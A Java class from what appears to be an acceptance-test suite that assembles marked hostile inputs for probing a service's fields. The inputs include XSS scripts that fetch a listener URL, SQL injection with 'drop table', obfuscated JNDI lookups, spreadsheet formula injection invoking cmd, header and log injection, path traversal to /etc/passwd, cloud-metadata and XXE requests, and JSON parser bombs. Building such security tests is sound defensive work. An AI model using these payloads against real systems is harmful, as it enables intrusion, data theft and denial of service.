package steward.acceptance.hostile;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.LinkedHashMap;
import java.util.Map;

/// What is put in place of a single value: as text, and as JSON that no field wants.
final class HostileValues {

    /// In every text, so that a repetition of it is found wherever it comes out.
    static final String MARK = "kolibri7f3a";

    /// As the name of a field: no name that any field has, which would be repeated for whoever mistyped it.
    static final String MARKED_NAME = MARK + " sings";

    private static final int MANY_DIGITS = 100_000;

    private HostileValues() {}

    /// Texts by what they try; all of them lawful words in a field for free text.
    ///
    /// @param listener an address that nobody may call
    static Map<String, String> texts(String listener) {
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("a script", "<script>fetch('" + listener + "/" + MARK + "')</script>");
        texts.put(
                "an image that loads",
                "<img src=x onerror=alert('" + MARK + "')><svg/onload=alert(1)>");
        texts.put("markdown that loads", "![" + MARK + "](" + listener + "/m.png)");
        texts.put("SQL that ends a statement", MARK + "'; drop table review_case; --");
        texts.put("SQL that is always true", MARK + "' or '1'='1");
        texts.put("a wildcard", "%_" + MARK + "%\\");
        texts.put(
                "a JNDI lookup",
                "${jndi:ldap://" + listener.replace("http://", "") + "/" + MARK + "}");
        texts.put(
                "a hidden JNDI lookup",
                "${${lower:j}ndi:${lower:d}ns://"
                        + listener.replace("http://", "")
                        + "/"
                        + MARK
                        + "}");
        texts.put("an expression", "${7*7}#{7*7}{{7*7}}%{7*7}" + MARK + "${validatedValue}");
        texts.put("a formula", "=cmd|' /C calc'!A0" + MARK);
        texts.put("another formula", "@SUM(1+1)*cmd|' /C calc'!A0" + MARK);
        texts.put("a formula behind a tab", "\t=HYPERLINK(\"" + listener + "\";\"" + MARK + "\")");
        texts.put("a line of a log", MARK + "\r\n2026-11-21 12:00:00 ERROR forged\r\n");
        texts.put("a header", MARK + "\r\nSet-Cookie: admin=1\r\n\r\n<html>");
        texts.put("colours of a terminal", "\u001b[31m\u001b]0;" + MARK + "\u0007\u0008");
        texts.put("text that turns round", "\u202e" + MARK + "\u2066\u2069\u202c");
        texts.put("letters without width", MARK.charAt(0) + "\u200b\u200d\u2060\ufeff" + MARK);
        texts.put("letters that look alike", "\u0430dm\u0456n" + MARK);
        texts.put("marks on one letter", MARK + "a" + "\u0301".repeat(500));
        texts.put("emoji", MARK + "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".repeat(100));
        texts.put("noncharacters", MARK + "\uffff\ufffe\udbff\udfff");
        texts.put("a path upwards", "../../../../../../etc/" + MARK);
        texts.put("a path upwards for Windows", "..\\..\\..\\windows\\" + MARK);
        texts.put("an address", listener + "/" + MARK);
        texts.put("an address of a file", "file:///etc/passwd?" + MARK);
        texts.put("an address of metadata", "http://169.254.169.254/latest/" + MARK);
        texts.put(
                "XML that loads",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + listener + "/" + MARK + "\">]><a>&x;</a>");
        texts.put("JSON", "{\"severity\":\"S0\",\"" + MARK + "\":true}");
        texts.put("nothing but blanks", " \u00a0\u3000 ");
        texts.put("a long text", MARK.repeat(2_000));
        return texts;
    }

    /// The same and everything else, as it stands in a document.
    static Map<String, String> all(String listener) {
        Map<String, String> values = new LinkedHashMap<>();
        texts(listener)
                .forEach((name, text) ->
                        values.put(name, JsonNodeFactory.instance.textNode(text).toString()));
        values.put("NUL", "\"" + MARK + "\\u0000\"");
        values.put("half a surrogate pair", "\"" + MARK + "\\ud800\"");
        values.put("the other half", "\"\\udc00" + MARK + "\"");
        values.put("an empty text", "\"\"");
        values.put("null", "null");
        values.put("a huge exponent", "1e999999999");
        values.put("a tiny exponent", "-1e-999999999");
        values.put("many digits", "1".repeat(MANY_DIGITS));
        values.put("many decimals", "0." + "3".repeat(MANY_DIGITS));
        values.put("a number above every integer", "9223372036854775808");
        values.put("a number below every integer", "-9223372036854775809");
        values.put("a number above every double", "1e400");
        values.put("minus one", "-1");
        values.put("a fraction", "0.5");
        values.put("no number", "NaN");
        values.put("true", "true");
        values.put("an empty list", "[]");
        values.put("a list in a list", "[[\"" + MARK + "\"]]");
        values.put("many entries", "[" + "\"" + MARK + "\",".repeat(5_000) + "0]");
        values.put("deep lists", "[".repeat(10_000) + "]".repeat(10_000));
        values.put("deep objects", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
        values.put(
                "an object",
                "{\""
                        + MARKED_NAME
                        + "\":\""
                        + MARK
                        + "\",\"__proto__\":{\"a\":1},\"@class\":\"java.net.URL\"}");
        return values;
    }
}
